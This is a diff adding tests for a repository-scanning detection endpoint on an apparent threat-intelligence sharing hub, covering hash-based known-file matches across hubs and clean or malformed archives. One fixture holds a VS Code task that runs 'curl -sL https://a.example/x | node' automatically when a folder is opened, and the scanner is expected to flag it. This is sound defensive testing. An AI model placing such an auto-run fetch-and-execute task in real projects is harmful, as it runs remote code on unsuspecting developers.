@@ -1,9 +1,10 @@
 /** Detection across hubs: what is said of a site at one protects at the other, and goes no further than it may. */
 import assert from 'node:assert/strict';
-import { randomUUID } from 'node:crypto';
+import { createHash, randomUUID } from 'node:crypto';
 import { after, before, describe, test } from 'node:test';
 import type { IndicatorValue, SiteCheck } from '@haetae/contract';
 import type { Tlp } from '@haetae/stix/marking';
+import { strToU8, zipSync } from 'fflate';
 import { type Call, newMember, pair, startTestHub, type TestHub, until } from './alliance.ts';
 import { add, indicator, newVersion } from './claims.ts';
 
@@ -206,3 +207,60 @@ describe('an application is checked by its facts', () => {
     assert.equal(body.errors[0].code, 'never_an_input');
   });
 });
+
+describe('a repository is looked at while it is still packed', () => {
+  const look = (call: Call, files: Record<string, string>) =>
+    call('POST', '/api/v1/detection/check/repository', zipSync(mapValues(files, strToU8)), {
+      'content-type': 'application/zip',
+    });
+
+  test('one that starts a download when an editor opens it is not to be opened, and the place is named', async () => {
+    const task = {
+      label: 'lint',
+      type: 'shell',
+      command: 'curl -sL https://a.example/x | node',
+      runOptions: { runOn: 'folderOpen' },
+    };
+    const { status, body } = await look(kr.call, {
+      'test/package.json': '{"name":"test"}',
+      'test/.vscode/tasks.json': JSON.stringify({ version: '2.0.0', tasks: [task] }, null, 1),
+    });
+    assert.equal(status, 200, JSON.stringify(body));
+    assert.equal(body.verdict, 'malicious');
+    assert.match(body.findings[0].file, /tasks\.json$/);
+    assert.doesNotMatch(JSON.stringify(body.findings), /https:\/\/a\.example/);
+  });
+
+  test('a file that KR knows by its hash is found at EU', async () => {
+    const content = `module.exports = '${randomUUID()}';\n`;
+    const hash = createHash('sha256').update(content).digest('hex');
+    const object = said('', 'green', { pattern: `[file:hashes.'SHA-256' = '${hash}']`, labels: ['malware'] });
+    await add(kr.call, alliance, [object]);
+    await until(
+      () => valuesAt(eu.call),
+      (values) => values.some(({ value }) => value === hash),
+    );
+    const { body } = await look(eu.call, { 'a/index.js': content });
+    assert.equal(body.verdict, 'malicious');
+    assert.equal(body.findings[0].rule, 'known-file');
+    assert.match(body.findings[0].advice, new RegExp(object.id));
+  });
+
+  test('an honest one has no finding, which is not a proof', async () => {
+    const { body } = await look(kr.call, { 'a/package.json': '{"name":"a"}', 'a/index.js': 'export const a = 1;\n' });
+    assert.equal(body.verdict, 'clean');
+    assert.equal(body.files, 2);
+  });
+
+  test('what is no archive is told to be none', async () => {
+    const answer = await kr.call('POST', '/api/v1/detection/check/repository', 'hello', {
+      'content-type': 'application/zip',
+    });
+    assert.equal(answer.status, 422);
+    assert.equal(answer.body.errors[0].code, 'no_archive');
+  });
+});
+
+function mapValues<A, B>(of: Record<string, A>, turn: (value: A) => B): Record<string, B> {
+  return Object.fromEntries(Object.entries(of).map(([key, value]) => [key, turn(value)]));
+}
